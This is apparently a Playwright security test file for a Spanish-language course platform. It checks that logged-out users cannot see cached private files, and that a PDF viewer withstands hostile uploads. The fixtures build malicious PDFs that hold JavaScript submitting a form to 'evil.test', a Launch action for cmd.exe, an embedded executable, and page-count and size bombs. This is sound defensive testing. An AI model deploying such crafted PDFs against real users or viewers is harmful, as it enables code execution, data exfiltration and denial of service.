import type { Adjunto, EnlaceDeAdjunto } from '@puente/contracts/attachments';

import { Client } from './support/client.ts';
import { makeCourse } from './support/courses.ts';
import { pdfOf, pdfSaying } from './support/files.ts';
import { demo, openAs } from './support/person.ts';
import { expect, test } from './support/test.ts';

test('[DOC-4, ASVS-14.3.1, ASVS-14.3.2] after a logout, Back does not show a private file', async ({
  page,
  academy,
  student,
  watch,
}) => {
  watch.allow(/status of 403/);
  const client = await Client.signIn(academy, student);
  const form = new FormData();
  form.set('archivo', new Blob([new Uint8Array(pdfSaying('Privado'))]), 'caso.pdf');
  const { id } = await client.postForm<Adjunto>('/adjuntos', form);
  await page.goto('/');
  // The browser's own call, which gives it the cookie that its links need.
  const links = await page.evaluate(
    async ([token, ids]) => {
      const answer = await fetch(`/api/adjuntos/enlaces?ids=${ids}`, { headers: { Authorization: `Bearer ${token}` } });
      return (await answer.json()) as EnlaceDeAdjunto[];
    },
    [client.token, id] as const,
  );
  const ver = links[0]?.ver ?? '';
  // Read as text: a browser shows a PDF by a program of its own.
  const shown = async () => (await page.request.get(ver)).status();
  expect(await shown()).toBe(200);
  const status = () =>
    page.evaluate(async (address) => {
      // The cache of the Back button: what it has is taken without asking.
      const answer = await fetch(address, { cache: 'force-cache' });
      return [answer.status, (await answer.text()).includes('Privado')];
    }, ver);
  expect(await status()).toEqual([200, true]);
  await client.post('/auth/logout');
  expect(await status()).toEqual([403, false]);
});

/** Objects of a PDF with one page that says "Página", with more in its catalogue, its page, and behind them. */
const pdfWith = ({
  catalog = '',
  page = '/MediaBox[0 0 400 240]',
  pages = '/Kids[3 0 R]/Count 1',
  more = [] as string[],
}) => {
  const drawing = 'BT /F1 24 Tf 40 120 Td (Pagina) Tj ET';
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages${pages}>>`,
    `<</Type/Page/Parent 2 0 R${page}/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>`,
    `<</Length ${drawing.length}>>stream\n${drawing}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...more,
  ]);
};

const script = '/S/JavaScript/JS(app.alert\\(1\\);window.top.hacked=1;this.submitForm\\("https://evil.test"\\))';
const many = (reference: string, count: number) => Array.from({ length: count }, () => reference).join(' ');
const deep = Array.from({ length: 3_000 }, (_, at) => `<</Type/Pages/Kids[${at === 2_999 ? 3 : at + 7} 0 R]/Count 1>>`);

const files: [title: string, content: Buffer][] = [
  [
    'Programas',
    pdfWith({
      catalog: `/OpenAction 6 0 R/AA<</WC 6 0 R/O 6 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>/EmbeddedFiles<</Names[(x.exe) 8 0 R]>>>>`,
      page: '/MediaBox[0 0 400 240]/AA<</O 6 0 R>>/Annots[7 0 R]',
      more: [
        `<<${script}>>`,
        '<</Type/Annot/Subtype/Link/Rect[0 0 400 240]/A<</S/Launch/F(cmd.exe)>>>>',
        '<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>',
      ],
    }),
  ],
  [
    'Un millón de páginas',
    pdfWith({
      pages: `/Kids[${many('6 0 R', 1_000)}]/Count 1000000`,
      more: [`<</Type/Pages/Parent 2 0 R/Kids[${many('3 0 R', 1_000)}]/Count 1000>>`],
    }),
  ],
  ['Miente', pdfWith({ pages: '/Kids[3 0 R]/Count 999999999' })],
  ['Alta', pdfWith({ page: '/MediaBox[0 0 1 14400]' })],
  ['Enorme', pdfWith({ page: '/MediaBox[0 0 1000000 1000000]' })],
  ['Honda', pdfWith({ pages: '/Kids[6 0 R]/Count 1', more: deep })],
  ['Redonda', pdfWith({ pages: '/Kids[2 0 R]/Count 1' })],
];

test('[DOC-4, ASVS-5.2.1] hostile PDF files run nothing, and the page that shows them goes on', async ({
  page,
  academy,
  student,
  watch,
}) => {
  test.slow();
  watch.allow(/could not be drawn/);
  const { id: cursoId, modulos } = await makeCourse(academy, { precio: 0 });
  await (await Client.signIn(academy, student)).post(`/cursos/${cursoId}/inscripcion`);
  const admin = await Client.signIn(academy, demo.admin);
  for (const [titulo, content] of files) {
    const form = new FormData();
    form.set('titulo', titulo);
    form.set('tipo', 'pdf');
    form.set('file', new Blob([new Uint8Array(content)]), 'a.pdf');
    await admin.postForm(`/clases/${modulos[0]?.clases[0]?.id}/documentos`, form);
  }
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => dialogs.push(dialog.message()));
  await openAs(page, academy, student, '/dashboard/documents');
  await page
    .getByRole('button', { name: /7 documentos$/ })
    .last()
    .click();
  for (const [titulo] of files) {
    await page
      .getByRole('button', { name: `Abrir «${titulo}»` })
      .first()
      .click();
    const reader = page.getByRole('dialog');
    const cannotBeShown = reader.getByText('Esta página no se puede mostrar aquí. Descarga el documento para verla.');
    const drawn = titulo === 'Redonda' ? cannotBeShown : reader.locator('canvas').first();
    await expect(drawn, titulo).toBeVisible({ timeout: 20_000 });
    // The file's own count is believed only where the pages are there.
    if (titulo === 'Un millón de páginas') await expect(reader.getByText(/^1\D?000\D?000 páginas$/)).toBeVisible();
    // The page still answers, and has no more than some hundred pages in it.
    const count = await page.evaluate(() => document.querySelectorAll('[role=dialog] [role=group]').length);
    expect(count).toBeLessThanOrEqual(300);
    const largest = await page.evaluate(() =>
      Math.max(0, ...[...document.querySelectorAll('canvas')].map(({ width, height }) => width * height)),
    );
    expect(largest).toBeLessThanOrEqual(16_100_000);
    await page.keyboard.press('Escape');
    await expect(reader).toBeHidden();
  }
  // The file with the scripts was the first of them.
  expect([dialogs, await page.evaluate(() => 'hacked' in window)]).toEqual([[], false]);
});
